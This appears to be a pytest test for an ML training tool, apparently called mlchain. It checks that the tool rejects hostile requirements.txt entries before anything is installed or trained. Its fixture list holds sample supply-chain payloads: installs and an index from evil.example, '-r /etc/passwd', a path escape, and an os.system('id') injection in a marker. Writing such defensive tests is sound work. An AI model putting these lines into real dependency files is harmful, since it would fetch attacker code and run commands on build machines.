"""A repository's requirements.txt that would make the image build (or the process runner's pip)
reach somewhere else is refused before anything is installed or trained: every line it refuses,
with its number, in one message, exit 3, no traceback."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import make_git_repo

HOSTILE = [
    ("-e git+https://evil.example/x.git#egg=x", "the option -e is not allowed"),
    ("--index-url https://evil.example/simple", "the option --index-url is not allowed"),
    ("-r /etc/passwd", "the option -r is not allowed"),
    ("evil @ https://evil.example/evil-1.0-py3-none-any.whl", "a URL is not allowed"),
    ("../../outside_pkg", "a local path is not allowed"),
    ("numpy; __import__('os').system('id')", "not an environment marker"),
]


@pytest.mark.parametrize(("line", "said"), HOSTILE, ids=[h[1] for h in HOSTILE])
def test_mlchain_train_refuses_a_hostile_requirement_before_training(tmp_path: Path, line: str, said: str) -> None:
    repo = make_git_repo(tmp_path / "digits", example="digits_sklearn")
    (repo / "requirements.txt").write_text(f"scikit-learn\n{line}\n")
    env = {**os.environ, "MLCHAIN_RUNNER": "process"}
    env.pop("MLCHAIN_HOME", None)
    done = subprocess.run([sys.executable, "-m", "mlchain.cli", "--home", str(tmp_path / "home"), "train", str(repo)],
                          env=env, capture_output=True, text=True, timeout=240, check=False)
    assert done.returncode == 3, done.stderr
    assert f"requirements.txt:2: {line[:120]!r}: {said}" in done.stderr
    assert "Traceback" not in done.stderr
    assert not (tmp_path / "home" / "envs").exists()                    # nothing was installed
    assert not list((tmp_path / "home" / "runs").glob("*/trials/1/output/*"))  # nothing trained
